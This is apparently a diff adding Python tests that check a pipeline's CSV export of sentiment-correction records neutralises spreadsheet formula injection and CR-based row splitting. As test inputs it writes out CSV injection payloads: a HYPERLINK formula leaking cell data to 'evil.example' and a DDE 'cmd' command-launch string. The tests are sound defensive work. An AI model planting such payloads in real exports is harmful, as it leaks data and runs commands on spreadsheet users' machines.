@@ -15,6 +15,7 @@ from trends_helpers import add_article, add_feed, add_score
 from pipeline.db.engine import Database
 from pipeline.db.models import ArticleEntity
 from pipeline.feedback import (
+    CorrectionRow,
     list_corrections,
     record,
     training_examples,
@@ -67,3 +68,50 @@ def test_the_training_snapshot_leaves_out_who(corrected: Database, tmp_path: Pat
     (row,) = [json.loads(line) for line in path.read_text().splitlines()]
     assert row["title"] == TITLE and row["label"] == "negative"
     assert "corrected_by" not in row and "ann@example.com" not in path.read_text()
+
+
+def _row(title: str, who: str = "ann") -> CorrectionRow:
+    return CorrectionRow(
+        id=7,
+        article_id=42,
+        ticker="ACME",
+        label="negative",
+        model_version="m1",
+        model_label="positive",
+        corrected_by=who,
+        corrected_at=NOW,
+        title=title,
+        url="https://news.example/a1",
+        mention="Acme",
+    )
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_cells_a_spreadsheet_would_run(start: str) -> None:
+    title = start + 'HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    who = start + "cmd|' /C calc'!A0"
+    out = io.StringIO()
+    write_corrections([_row(title, who)], out, "csv")
+    (parsed,) = list(csv.DictReader(io.StringIO(out.getvalue(), newline=None)))
+    expected = "'" + title.replace("\r", "\n")  # a CR is written as a newline (below)
+    assert parsed["title"] == expected and parsed["corrected_by"] == "'" + who.replace("\r", "\n")
+    # Numbers stay numbers, and harmless text is untouched.
+    assert parsed["id"] == "7" and parsed["article_id"] == "42"
+    assert parsed["ticker"] == "ACME" and parsed["corrected_at"] == NOW.isoformat()
+
+
+def test_csv_a_carriage_return_inside_a_cell_cannot_start_a_new_row() -> None:
+    # Read as a spreadsheet does: any line break outside quotes ends the row.
+    title = "Acme beats\r=cmd|' /C calc'!A0"  # no comma or quote, which would get it quoted
+    out = io.StringIO()
+    write_corrections([_row(title)], out, "csv")
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline=None)))
+    assert len(rows) == 1 and rows[0]["title"] == title.replace("\r", "\n")
+
+
+def test_jsonl_keeps_formula_like_text_exact() -> None:
+    title = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    out = io.StringIO()
+    write_corrections([_row(title, "@ann")], out, "jsonl")
+    row = json.loads(out.getvalue())
+    assert row["title"] == title and row["corrected_by"] == "@ann" and row["id"] == 7
